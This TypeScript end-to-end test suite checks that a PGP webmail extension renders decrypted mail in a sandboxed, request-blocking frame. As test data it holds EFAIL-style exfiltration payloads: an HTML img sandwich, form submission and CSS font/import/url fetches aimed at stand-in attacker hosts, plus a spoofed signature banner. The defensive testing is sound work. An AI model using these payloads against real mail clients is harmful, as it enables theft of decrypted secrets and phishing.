/**
 * Attack suite EF-01..EF-04 and SG-08: decrypted content is rendered alone, in a
 * sandboxed extension frame whose policy allows no request, with the status drawn
 * by us outside it. Real Chromium with the built extension; mail arrives over the
 * webmail's real SMTP; every request of the browser context is routed and any that
 * is not the webmail's own traffic fails the test (and is aborted, so nothing ever
 * reaches the network).
 *
 * Positive controls: a canary request planted from the page *is* seen by the
 * interception (so "intercept nothing" cannot pass), and each case checks that the
 * decrypted content was really rendered (so "render nothing" cannot pass).
 *
 * On a vulnerable implementation: joining the outer MIME parts with the decrypted
 * one (EF-01/02) puts `<img src="http://attacker…` or the form into our frame, and
 * the request or the form shows up; dropping the sandbox/CSP or the sanitiser lets
 * leak.html fetch (EF-03; checked on 2026-12-04 by building without all three:
 * the interception saw 64 distinct requests from our frame);
 * keeping `<style>`/`@font-face` fetches the remote font (EF-04).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FrameLocator, Page } from 'playwright';
import {
  launchWithExtension,
  setUpAccount,
  type ExtensionBrowser,
} from '../../e2e/browser';
import { openDecrypted, signIn, startTestWebmail } from '../../e2e/webmail-page';
import type { Webmail } from '../../../webmail/server';
import { attackFile, attacksAvailable } from '../attack-corpus';
import {
  deliverTo,
  encryptEntity,
  guardNetwork,
  ownPublicKey,
  pgpMimeBody,
  pgpMimeMail,
  settle,
  type NetworkGuard,
} from './harness';

const ALICE = 'alice@ecosmail.test';
const ATTACKER = 'mallory@attacker.test';

function htmlEntity(html: string): string {
  const base64 = Buffer.from(html, 'utf8').toString('base64').replace(/.{76}/g, '$&\r\n');
  return [
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    base64,
  ].join('\r\n');
}

describe('attack suite: rendering of decrypted content', () => {
  let webmail: Webmail;
  let browser: ExtensionBrowser;
  let guard: NetworkGuard;
  let page: Page;
  let publicKey: string;

  beforeAll(async () => {
    webmail = await startTestWebmail();
    browser = await launchWithExtension();
    await setUpAccount(browser, ALICE, 'Alice');
    publicKey = await ownPublicKey(browser);
    guard = await guardNetwork(browser.context, [
      webmail.url,
      `chrome-extension://${browser.extensionId}`,
    ]);
    page = await browser.context.newPage();
    await signIn(page, webmail, ALICE);
  });

  afterAll(async () => {
    await browser?.close();
    await webmail?.stop();
  });

  /** Opens a delivered message and presses Decrypt; returns our reader frame. */
  async function readDecrypted(raw: string): Promise<FrameLocator> {
    return openDecrypted(page, await deliverTo(webmail, raw, ATTACKER, ALICE));
  }

  it('control: a canary request planted in the page is seen by the interception', async () => {
    // A blank page (the webmail's own CSP would stop the image before any request).
    const blank = await browser.context.newPage();
    await blank.setContent('<img src="http://canary.leak.test/pixel.png">');
    await expect.poll(() => guard.seen('canary.leak.test').length).toBeGreaterThan(0);
    await blank.close();
  });

  it('EF-01 an HTML sandwich around old ciphertext is never joined with the plaintext', async () => {
    const secret = `the victim's old secret ${Date.now()}`;
    const victim = await encryptEntity(
      `Content-Type: text/plain; charset=utf-8\r\n\r\n${secret}\r\n`,
      publicKey,
    );
    const raw = [
      `From: ${ATTACKER}`,
      `To: ${ALICE}`,
      'Subject: EF-01',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="out"',
      '',
      '--out',
      'Content-Type: text/html',
      '',
      '<img src="http://attacker.ef01.test/?',
      '--out',
      'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";',
      ' boundary="enc"',
      '',
      pgpMimeBody(victim, 'enc'),
      '--out',
      'Content-Type: text/html',
      '',
      '">',
      '--out--',
      '',
    ].join('\r\n');

    const reader = await readDecrypted(raw);
    const shown = reader.locator('[data-testid="plaintext"]');

    // Control: the genuine plaintext is shown, alone.
    expect((await shown.textContent())?.trim()).toBe(secret);
    expect(await reader.locator('[data-testid="content-frame"]').count()).toBe(0);
    await expect
      .poll(() => reader.locator('[data-testid="embedded-warning"]').count())
      .toBe(1);
    await settle(800);
    expect(guard.seen('attacker.ef01.test')).toEqual([]);
  });

  it('EF-02 a form sandwich cannot submit the plaintext', async () => {
    const raw = await pgpMimeMail({
      from: ATTACKER,
      to: ALICE,
      subject: 'EF-02',
      publicKey,
      entity: htmlEntity(
        '<form action="http://attacker.ef02.test/" method="get">' +
          '<textarea name="p">secret text of the victim</textarea>' +
          '<button id="go" type="submit">Read more</button></form>' +
          '<p id="ok">visible text</p>',
      ),
    });

    const reader = await readDecrypted(raw);
    const content = reader.frameLocator('[data-testid="content-frame"]');
    await expect.poll(() => content.locator('#ok').textContent()).toBe('visible text');

    // The sanitiser removed the form; even if it had not, sandbox="" (no
    // allow-forms) and `form-action 'none'` keep it from submitting.
    expect(await content.locator('form, textarea, button').count()).toBe(0);
    const sandbox = await reader
      .locator('[data-testid="content-frame"]')
      .getAttribute('sandbox');
    expect(sandbox).toBe('');
    await settle(800);
    expect(guard.seen('attacker.ef02.test')).toEqual([]);
  });

  it.skipIf(!attacksAvailable())(
    'EF-03 no request leaves the decrypt frame for cure53 HTTPLeaks (217 vectors)',
    async () => {
      const leak = attackFile('httpleaks/leak.html').toString('utf8');
      const raw = await pgpMimeMail({
        from: ATTACKER,
        to: ALICE,
        subject: 'EF-03',
        publicKey,
        entity: htmlEntity(leak),
      });
      const before = guard.foreign.length;

      const reader = await readDecrypted(raw);
      const content = reader.frameLocator('[data-testid="content-frame"]');

      // Control: leak.html was rendered in the frame, its remote images replaced
      // by our placeholder.
      await expect
        .poll(() => content.locator('.remote-content').count())
        .toBeGreaterThan(5);
      expect(await content.locator('body *').count()).toBeGreaterThan(20);

      await settle(2500);
      const leaked = guard.foreign.slice(before).filter((u) => !u.includes('canary'));
      expect(leaked).toEqual([]);
    },
  );

  it('EF-04 CSS-only exfiltration fetches no font, image or style', async () => {
    const raw = await pgpMimeMail({
      from: ATTACKER,
      to: ALICE,
      subject: 'EF-04',
      publicKey,
      entity: htmlEntity(
        '<style>@font-face{font-family:x;src:url(http://attacker.ef04.test/font)}' +
          '@import url(http://attacker.ef04.test/import.css);' +
          'p{font-family:x;background:url(http://attacker.ef04.test/bg)}' +
          '@container (min-width: 10px){p{background:url(http://attacker.ef04.test/cq)}}' +
          '</style>' +
          '<link rel="stylesheet" href="http://attacker.ef04.test/link.css">' +
          '<p id="ok" style="background-image:url(http://attacker.ef04.test/inline)">' +
          'ligature secret</p>',
      ),
    });

    const reader = await readDecrypted(raw);
    const content = reader.frameLocator('[data-testid="content-frame"]');
    await expect.poll(() => content.locator('#ok').textContent()).toBe('ligature secret');
    expect(await content.locator('body style, body link').count()).toBe(0);
    expect(await content.locator('#ok').getAttribute('style')).toBeNull();

    await settle(1000);
    expect(guard.seen('attacker.ef04.test')).toEqual([]);
  });

  it('SG-08 decrypted HTML imitating our status banner stays inside the content area', async () => {
    const raw = await pgpMimeMail({
      from: ATTACKER,
      to: ALICE,
      subject: 'SG-08',
      publicKey,
      entity: htmlEntity(
        '<div data-testid="signature-status" data-status="valid" ' +
          'style="background:#1f6f50;color:#fff">Encrypted · signed by ceo@ecosmail.test' +
          '</div><p>Please wire the money.</p>',
      ),
    });

    const reader = await readDecrypted(raw);

    // Our banner (outside the content frame) says what is true: not signed. The
    // imitation exists only inside the sandboxed frame, below our banner.
    const banner = reader.locator('[data-testid="signature-status"]');
    expect(await banner.count()).toBe(1);
    expect(await banner.getAttribute('data-status')).toBe('none');
    const content = reader.frameLocator('[data-testid="content-frame"]');
    await expect
      .poll(() => content.locator('body').textContent())
      .toContain('signed by ceo@ecosmail.test');
    const [bannerBox, frameBox] = await Promise.all([
      banner.boundingBox(),
      reader.locator('[data-testid="content-frame"]').boundingBox(),
    ]);
    expect(bannerBox!.y + bannerBox!.height).toBeLessThanOrEqual(frameBox!.y);
  });
});
